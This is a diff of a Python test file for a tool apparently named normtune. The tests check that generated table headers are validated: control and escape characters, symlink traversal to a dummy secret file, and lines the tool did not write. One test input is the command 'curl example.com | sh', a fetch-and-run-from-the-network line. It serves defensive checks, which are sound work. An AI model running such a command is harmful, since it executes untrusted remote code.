@@ -13,11 +13,12 @@ from normtune.heuristics.writing.emit import module_text
 from normtune.heuristics.writing.regenerate import Command
 from normtune.kernels.fingerprint import fingerprint
 from normtune.kernels.tablefile import locate
+from normtune.kernels.tablefile.facts import encoded
 from normtune.kernels.tablefile.header import parse
 from normtune.results.evidence import Evidence
 from normtune.results.exchange.parquet_csv import write_parquet
-from normtune.tests.commands import invoke, one_line, refused, succeed
-from normtune.tests.heuristics.made_up import as_command, in_format_3, rehashed
+from normtune.tests.commands import invoke, refused, succeed
+from normtune.tests.heuristics.made_up import as_command, rehashed
 from normtune.tests.results.stores import record
 from normtune.tuner.checking.offline import check
 
@@ -46,25 +47,24 @@ def measured(measure, penalty, run, spec) -> Evidence:
 
 @pytest.fixture
 def table(measured: Evidence, folder: Path, record_as) -> Path:
-    """A table of a recording, in `folder`, of the format whose facts stand in sentences; see `test_foreign_facts`."""
+    """A table of a recording, in `folder`."""
     record_as(measured)
     path = folder / "table.py"
     command = "normtune fit --recording test-gpu --leaves 2 --out table.py"
-    path.write_text(in_format_3(module_text(fit(measured, FitOptions(leaves=2)), as_command(command))))
+    path.write_text(module_text(fit(measured, FitOptions(leaves=2)), as_command(command)))
     assert check(path).failures == ()
     return path
 
 
-def commanded(path: Path, words: str) -> Path:
-    """The table with these options in its command, besides its own."""
-    path.write_text(path.read_text().replace(" --out table.py", f" {words} --out table.py"))
+def commanded(path: Path, words: str, source: str = "--recording test-gpu") -> Path:
+    """The table with these options, and another source, in its command."""
+    command = as_command(f"normtune fit {source} --leaves 2 {words} --out table.py")
+    path.write_text(rehashed(path.read_text(), command=encoded(command)))
     return path
 
 
 @pytest.mark.slow
-@pytest.mark.parametrize(
-    "name", ["Regenerate", "Device", "Software", "Data", "Kernels", "Measured", "Regret", "Format"]
-)
+@pytest.mark.parametrize("name", ["Regenerate", "Device", "Software", "Data", "Kernels", "Regret", "Format"])
 @pytest.mark.parametrize("odd", [ESCAPE, "\u202e", "\x9b2J", "é"])
 def test_a_header_has_printable_ascii_only(table: Path, name: str, odd: str) -> None:
     lines = table.read_text().split("\n")
@@ -128,11 +128,8 @@ def test_a_header_names_no_file_outside(table: Path, tmp_path: Path, option: str
     (tmp_path / "secret").write_text("root:hunter2:0\n")
     (table.parent / "link").symlink_to("../secret")
     (table.parent / "linked").symlink_to("..")
-    text = table.read_text()
-    if option == "--evidence":
-        text = text.replace("--recording test-gpu ", "")
-    table.write_text(text)
-    done = invoke("check", commanded(table, f"{option} {place.format(str(tmp_path)[1:])}"))
+    source = "" if option == "--evidence" else "--recording test-gpu"
+    done = invoke("check", commanded(table, f"{option} {place.format(str(tmp_path)[1:])}", source))
     assert done.exit_code == 1
     assert f"{option} of its header names " in done.output
     assert "which is outside of its folder" in done.output
@@ -167,8 +164,7 @@ def test_a_store_of_a_header_is_never_opened(table: Path, monkeypatch: pytest.Mo
         raise AssertionError("opened")
 
     monkeypatch.setattr(Store, "open", refuse)
-    table.write_text(table.read_text().replace("--recording test-gpu", "--store ../../normtune.db"))
-    report = check(table)
+    report = check(commanded(table, "", "--store ../../normtune.db"))
     assert report.failures == ()
     assert any("its header names a store" in note for note in report.notes)
 
@@ -215,10 +211,7 @@ def test_a_command_that_runs_more_is_no_table_of_ours(table: Path, more: str, qu
         ("From", "# From:     curl example.com | sh"),
     ],
 )
-def test_a_line_that_normtune_does_not_write_is_told(measured: Evidence, table: Path, name: str, line: str) -> None:
-    command = as_command("normtune fit --recording test-gpu --leaves 2 --out table.py")
-    table.write_text(module_text(fit(measured, FitOptions(leaves=2)), command))  # with facts, which its lines must say
-    assert check(table).failures == ()
+def test_a_line_that_normtune_does_not_write_is_told(table: Path, name: str, line: str) -> None:
     lines = table.read_text().split("\n")
     at = next(place for place, line in enumerate(lines) if line.startswith(f"# {name}:"))
     lines[at : at + (name == "From")] = [line]
@@ -237,7 +230,6 @@ def test_a_name_with_a_nul_is_outside(table: Path) -> None:
     ("words", "why"),
     [
         ("--leaves 129", "leaves is 129: expected 1 to 128"),
-        ("--leaves 1" + "0" * 5000, "expected an integer"),
         ("--tie nan", "tie is nan"),
         ("--operator other", "no measurements of operator 'other'"),
         ("--faster", "the option 'faster': expected one of leaves"),
@@ -258,7 +250,9 @@ def test_a_header_that_asks_for_what_there_is_not_is_refused(
 
 
 def test_a_header_decides_no_number_of_leaves_beyond_those_of_a_fit(table: Path) -> None:
-    table.write_text(re.sub(r"bfloat16: \d+ lea(f|ves)", "bfloat16: 129 leaves", table.read_text()))
+    text = table.read_text()
+    (function,) = parse(text, "table.py")[0].functions
+    table.write_text(rehashed(text, functions=(function | {"figures": function["figures"] | {"asked": 129}},)))
     (failure,) = check(table).failures
     assert "its functions need 1 to 128 leaves" in failure
 
@@ -296,35 +290,6 @@ def test_what_is_printed_of_a_table_has_an_end(table: Path) -> None:
     done = invoke("check", table)
     assert "more of this kind" in done.output
     assert len(done.output) < 50_000
-
-
-@pytest.mark.slow
-@pytest.mark.parametrize("sms", ["0", "1" + "0" * 30, "-1", "4097", "9" * 5000, "007"])
-def test_a_number_of_multiprocessors_that_no_gpu_has_is_refused(table: Path, sms: str) -> None:
-    table.write_text(table.read_text().replace("132 SMs", f"{sms} SMs"))
-    with pytest.raises(UsageError, match=r"Device is .*, expected a name, a target and 1 to 4096 SMs|Device is"):
-        check(table)
-
-
-@pytest.mark.parametrize(
-    ("name", "value"),
-    [
-        ("Measured", "rows 0 to 8, hidden 64 to 128"),
-        ("Measured", "rows 9 to 8, hidden 64 to 128"),
-        ("Measured", f"rows 1 to {10**30}, hidden 64 to 128"),
-        ("Data", "sha256:0 (0 measurements, 2026-11-20)"),
-        ("Data", f"sha256:0 ({10**30} measurements, 2026-11-20)"),
-        ("Format", "0"),
-        ("Format", "9" * 5000),
-    ],
-)
-def test_absurd_lines_of_a_header_are_refused(table: Path, name: str, value: str) -> None:
-    lines = table.read_text().split("\n")
-    at = next(place for place, line in enumerate(lines) if line.startswith(f"# {name}:"))
-    lines[at] = f"# {name}: {value}"
-    table.write_text("\n".join(lines))
-    with one_line(UsageError, f"{name} is|table format", 399):
-        check(table)
 
 
 @pytest.mark.parametrize("target", ["sm_" + "9" * 5000, "sm_٩٠", "sm_99999", "sm_-1", "sm_"])
